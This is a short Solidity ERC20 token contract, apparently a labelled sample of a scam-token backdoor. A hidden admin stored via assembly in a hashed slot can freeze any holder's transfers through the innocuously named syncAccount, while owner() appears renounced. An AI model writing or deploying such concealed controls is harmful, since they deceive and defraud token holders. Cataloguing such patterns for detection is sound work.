// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {ERC20, Ownable} from "./Base.sol";

/// @title Hidden owner in a hashed storage slot: owner() is renounced, but
/// an admin written with assembly at keccak256("slot.admin") (outside the
/// first storage slots) can freeze any wallet with syncAccount(address,bool).
contract SlotAdminToken is ERC20, Ownable {
    bytes32 private constant ADMIN_SLOT = keccak256("slot.admin");
    mapping(address => bool) private _synced;

    constructor(uint256 supply) ERC20("Slot Admin", "SLAD") Ownable(msg.sender) {
        bytes32 slot = ADMIN_SLOT;
        address admin = msg.sender;
        assembly {
            sstore(slot, admin)
        }
        _mint(msg.sender, supply);
    }

    function _admin() private view returns (address a) {
        bytes32 slot = ADMIN_SLOT;
        assembly {
            a := sload(slot)
        }
    }

    function syncAccount(address account, bool state) external {
        require(msg.sender == _admin(), "sync: denied");
        _synced[account] = state;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(!_synced[from], "sync: pending");
        _move(from, to, value);
    }
}
